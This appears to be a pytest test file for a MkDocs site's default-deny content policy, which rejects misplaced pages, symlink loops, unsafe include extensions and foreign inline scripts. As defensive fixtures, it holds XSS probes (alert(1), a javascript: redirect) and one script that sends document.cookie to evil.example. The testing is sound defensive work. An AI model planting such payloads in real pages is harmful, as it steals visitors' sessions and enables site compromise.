"""The content-tree policy: default-deny in `kb validate` and in plain `mkdocs build` alike.

Plain MkDocs (without `kb`) must refuse every hostile file itself, with the located message,
and leave an already published site/ as it was. The inline-script allow-list and the
mkdocs.yml include check are tested on their functions.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import time
import urllib.error
from collections.abc import Callable
from pathlib import Path

import material
import pytest

from build_tools.checks.config_policy import check_config
from build_tools.checks.content_policy import RESERVED_TOP, typed_folders
from build_tools.checks.loader import Project, load_library
from build_tools.content.site_registries import AGREEMENTS_DIR
from build_tools.monitoring import MONITORING_DIR
from build_tools.output.inline_scripts import InlineScripts, is_known
from tests.engine.test_cli import tree_digest
from tests.helpers import fetch, kb_serve

Hostile = Callable[[Path], None]


def _write(relative: str, text: str = "текст\n") -> Hostile:
    def make(project: Path) -> None:
        path = project / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return make


def _symlink(relative: str, target: str) -> Hostile:
    def make(project: Path) -> None:
        os.symlink(target, project / relative)
    return make


def _folder(relative: str) -> Hostile:
    def make(project: Path) -> None:
        (project / relative).mkdir(parents=True)
        (project / relative / "chernovik.txt").write_text("черновик\n", encoding="utf-8")
    return make


def _snippets(project: Path) -> None:
    config = project / "mkdocs.yml"
    text = config.read_text(encoding="utf-8")
    config.write_text(text.replace("  - pymdownx.superfences\n",
                                   "  - pymdownx.superfences\n  - pymdownx.snippets\n"),
                      encoding="utf-8")


HOSTILE: dict[str, tuple[Hostile, str, str]] = {
    "page_at_root": (_write("content/novosti.md", "<script>alert(1)</script>\n"),
                     "content/novosti.md:1:1:", "NotInSection"),
    "page_in_own_folder": (_write("content/news/x.md"), "content/news/x.md:1:1:",
                           "NotInSection"),
    "markdown_extension": (_write("content/practices/x.markdown"),
                           "content/practices/x.markdown:1:1:", "WrongExtension"),
    "upper_case_md": (_write("content/practices/x.MD"), "content/practices/x.MD:1:1:",
                      "WrongExtension"),
    "index_in_section": (_write("content/practices/index.md"),
                         "content/practices/index.md:1:1:", "ReservedPath"),
    "theme_bundle": (_write("content/assets/javascripts/bundle.js", "alert(1)\n"),
                     "content/assets/javascripts/bundle.js:1:1:", "ReservedPath"),
    "robots": (_write("content/robots.txt"), "content/robots.txt:1:1:", "ReservedPath"),
    "html_attachment": (_write("content/practices/attachments/x.html", "<script></script>"),
                        "content/practices/attachments/x.html:1:1:", "ForbiddenFileType"),
    "svg_attachment": (_write("content/practices/attachments/x.svg", "<svg/>"),
                       "content/practices/attachments/x.svg:1:1:", "ForbiddenFileType"),
    "unreferenced": (_write("content/practices/attachments/lishniy.pdf"),
                     "content/practices/attachments/lishniy.pdf:1:1:", "UnreferencedFile"),
    "hidden": (_write("content/practices/.htaccess"), "content/practices/.htaccess:1:1:",
               "HiddenFile"),
    "folder_named_md": (_folder("content/practices/x.md"), "content/practices/x.md:1:1:",
                        "FolderNamedLikeFile"),
    "self_link": (_symlink("content/practices/sam.md", "sam.md"),
                  "content/practices/sam.md:1:1:", "BrokenSymlink"),
    "parent_loop": (_symlink("content/practices/vverh", ".."), "content/practices/vverh:1:1:",
                    "SymlinkedFolder"),
    "snippets": (_snippets, "mkdocs.yml:", "UnsafeInclude"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_plain_mkdocs_build_refuses_hostile_files(
    case: str, project: Path, sample_site: Path
) -> None:
    shutil.copytree(sample_site, project / "site")
    published = tree_digest(project / "site")
    make, where, code = HOSTILE[case]
    make(project)
    result = subprocess.run([sys.executable, "-m", "mkdocs", "build"], cwd=project,
                            capture_output=True, text=True, timeout=300)
    output = result.stdout + result.stderr
    assert result.returncode != 0, output
    assert "Traceback" not in output
    assert any(where in line and f"[{code}]" in line for line in output.splitlines()), output
    assert tree_digest(project / "site") == published
    assert not list(project.glob(".site-staging-*"))


def test_kb_serve_logs_hostile_files_and_keeps_serving(project: Path) -> None:
    scripts = Path(material.__file__).parent / "templates/assets/javascripts"
    bundle = next(scripts.glob("bundle.*.min.js")).name
    for case in ("page_at_root", "self_link", "parent_loop", "folder_named_md"):
        HOSTILE[case][0](project)
    _write(f"content/assets/javascripts/{bundle}", "alert(1)\n")(project)
    with kb_serve(project) as served:
        assert "roditelskiy-universitet" in fetch(f"{served.base}practices/",
                                                  time.monotonic() + 120)
        assert "alert(1)" not in fetch(f"{served.base}assets/javascripts/{bundle}",
                                       time.monotonic())
        with pytest.raises(urllib.error.HTTPError):
            fetch(f"{served.base}novosti/", time.monotonic())
    log = served.log
    assert "Traceback" not in log
    for code in ("NotInSection", "BrokenSymlink", "SymlinkedFolder", "FolderNamedLikeFile",
                 "ReservedPath"):
        assert f"[{code}]" in log, code


def test_build_publishes_only_referenced_attachments(sample_site: Path) -> None:
    attachments = sorted(p.name for p in (sample_site / "practices/attachments").iterdir())
    assert attachments == ["inofony-diagnosticheskaya-karta.csv",
                           "nastavnichestvo-plan-raboty.csv", "rekreatsiya-zony.png",
                           "setevoe-partnerstvo-soglashenie.txt"]
    for folder in typed_folders():
        assert not list((sample_site / folder).rglob("*.md"))


def test_every_top_level_name_of_the_site_is_reserved(sample_site: Path) -> None:
    """RESERVED_TOP is written by hand; the built site says whether it is complete."""
    inputs = {*typed_folders(), MONITORING_DIR, AGREEMENTS_DIR}  # folders copied from content/
    names = {p.name for p in sample_site.iterdir()}
    assert names - inputs - RESERVED_TOP == set()


def test_a_file_only_a_draft_refers_to_is_no_error(project: Path) -> None:
    draft = project / "content/practices/vechernyaya-shkola-dlya-poselka.md"
    draft.write_text(draft.read_text(encoding="utf-8")
                     + "\n[Расписание](attachments/raspisanie.pdf)\n", encoding="utf-8")
    (project / "content/practices/attachments/raspisanie.pdf").write_bytes(b"%PDF-1.4\n")
    _, problems = load_library(Project(project / "content", project))
    assert problems.codes() == []


def test_attachments_beside_an_unreadable_entry_are_not_reported_too(project: Path) -> None:
    entry = project / "content/practices/setevoe-partnerstvo-so-shkoloy-s-nizkimi-rezultatami.md"
    # A Word document saved under the entry's name: its own error, not its attachments'.
    entry.write_bytes(b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 200 + entry.read_bytes())
    _, problems = load_library(Project(project / "content", project))
    assert "BinaryFile" in problems.codes() and "UnreferencedFile" not in problems.codes()


MATERIAL_SCOPE = ('__md_scope=new URL("..",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)'
                  '-e+_.charCodeAt(0)),0),__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse('
                  '_.getItem(t.pathname+"."+e)),__md_set=(e,_,t=localStorage,a=__md_scope)=>{'
                  'try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}catch(e){}}')


def test_only_the_themes_inline_scripts_become_files(tmp_path: Path) -> None:
    scripts = InlineScripts()
    page = (f"<head><script>{MATERIAL_SCOPE}</script></head><body><article>"
            "<script>fetch('https://evil.example/?'+document.cookie)</script></article>"
            '<script type="application/json">{"a": 1}</script></body>')
    html, refused = scripts.externalize(page, "../", "practices/x.md")
    assert [p.code for p in refused] == ["ForeignInlineScript"]
    assert refused[0].path == "practices/x.md"
    assert "evil.example" not in html
    assert '<script src="../assets/inline/' in html
    assert '<script type="application/json">' in html
    [written] = scripts.write(tmp_path)
    assert written.read_text(encoding="utf-8") == MATERIAL_SCOPE


@pytest.mark.parametrize("code", [
    MATERIAL_SCOPE.replace('"..",location', '"..",location),alert(1),(1'),
    MATERIAL_SCOPE.replace('".."', '"x"+alert(1)+"x"'),
    "alert(document.domain)",
    'window.location.replace(["javascript:alert(1)",window.location.search,'
    'window.location.hash].join(""))',
])
def test_a_look_alike_of_a_theme_script_is_not_known(code: str) -> None:
    assert not is_known(code)


def _config(tmp_path: Path, extensions: str) -> list[str]:
    config = tmp_path / "mkdocs.yml"
    config.write_text(f"site_name: x\ndocs_dir: content\nmarkdown_extensions:\n{extensions}",
                      encoding="utf-8")  # a list (- name) or a mapping (name: {…})
    return [p.render() for p in check_config(config, tmp_path / "content", tmp_path)]


def test_snippets_confined_to_the_declared_folder_are_accepted(tmp_path: Path) -> None:
    assert _config(tmp_path, "  - pymdownx.snippets:\n      base_path: [content/_snippets]\n"
                             "      restrict_base_path: true\n      url_download: false\n") == []


@pytest.mark.parametrize("extension", [
    "  - pymdownx.snippets\n",
    "  - pymdownx.snippets:\n      base_path: content\n",
    "  - pymdownx.snippets:\n      base_path: [content/_snippets, .]\n",
    "  - pymdownx.snippets:\n      base_path: content/_snippets/../..\n",
    "  - pymdownx.snippets:\n      base_path: content/_snippets\n      check_paths: true\n"
    "      restrict_base_path: no\n",
    "  - pymdownx.snippets:\n      base_path: content/_snippets\n      url_download: yes\n",
    "  - markdown_include.include\n",
    "  pymdownx.snippets:\n    base_path: .\n",
])
def test_include_extensions_that_could_open_the_checkout_are_refused(
    tmp_path: Path, extension: str
) -> None:
    [problem] = _config(tmp_path, extension)
    assert problem.startswith("mkdocs.yml:4:") and problem.endswith("[UnsafeInclude]")
